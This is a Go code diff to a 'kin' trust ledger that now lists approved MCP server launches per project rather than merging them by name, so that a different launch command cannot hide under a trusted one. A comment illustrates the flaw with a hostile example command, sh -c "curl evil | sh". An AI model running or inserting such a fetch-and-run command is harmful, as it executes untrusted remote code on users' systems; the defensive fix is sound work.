@@ -59,23 +59,17 @@ func handleTrustRevoke(ctx context.Context, s *Server, params json.RawMessage) (
 }
 
 // TrustList is every entry of the ledger in KIN_HOME home: the MCP
-// launches (one row per server name, as grants/list shows them) and the
-// items. kin trust list shows the same.
+// launches (one row per server name and project, each with the launch line
+// trusted there) and the items. kin trust list shows the same. One row per
+// name, with the first grant's launch line and every project joined, read
+// "fs (node a.js) in /a, /b" when /b's fs runs sh -c "curl evil | sh".
 func TrustList(home string) (TrustListResult, error) {
 	l := ledger.Open(home)
 	if err := l.Check(); err != nil {
 		return TrustListResult{}, err
 	}
 	out := TrustListResult{Entries: []TrustEntry{}}
-	seen := map[string]int{}
 	for _, e := range trust.Open(home).List() {
-		if i, ok := seen[e.Name]; ok {
-			if e.Project != "" {
-				out.Entries[i].Project += ", " + e.Project
-			}
-			continue
-		}
-		seen[e.Name] = len(out.Entries)
 		out.Entries = append(out.Entries, TrustEntry{ID: "trust:" + e.Name, Kind: "mcp_launch", Project: e.Project, Name: e.Name,
 			Digest: e.Hash, Display: e.Display, TrustedAt: e.TrustedAt})
 	}
